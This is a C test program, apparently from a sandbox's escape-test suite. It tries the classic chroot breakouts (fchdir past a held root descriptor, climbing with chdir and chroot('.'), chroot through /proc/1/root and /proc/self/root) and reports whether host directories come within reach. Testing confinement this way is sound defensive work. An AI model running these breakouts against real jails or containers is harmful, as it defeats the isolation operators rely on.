// tries: the classic chroot breakouts: chroot into a subdirectory while holding a descriptor to the old root and fchdir back up past it, chroot(".") after climbing with chdir(".."), and chroot through /proc/self/root and /proc/1/root
// allowed: 3
// why: chroot is not in the seccomp allowlist (and needs CAP_SYS_CHROOT), and the box's / is already a pivot_root into its own tmpfs, so climbing ends at the box's root; the program exits 0. Reaching a directory that holds the host's /root or /home is an escape
// layer: seccomp, caps, mount
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("jail", 0755);
    int old = open("/", O_RDONLY | O_DIRECTORY);
    printf("chroot(jail): %s\n", chroot("jail") == 0 ? "succeeded" : strerror(errno));
    if (fchdir(old) == 0) {
        for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
        printf("chroot(.) after climbing: %s\n", chroot(".") == 0 ? "succeeded" : strerror(errno));
    }
    printf("chroot(/proc/1/root): %s\n", chroot("/proc/1/root") == 0 ? "succeeded" : strerror(errno));
    printf("chroot(/proc/self/root): %s\n", chroot("/proc/self/root") == 0 ? "succeeded" : strerror(errno));
    for (int i = 0; i < 64; i++) if (chdir("..") != 0) break;
    char cwd[512];
    printf("climbed to %s\n", getcwd(cwd, sizeof cwd) ? cwd : strerror(errno));
    struct stat st;
    if (stat("root", &st) == 0 || stat("home", &st) == 0 || stat("run", &st) == 0 || stat("sys", &st) == 0)
        printf("ESCAPED the host's root directory is in reach\n");
    return 0;
}
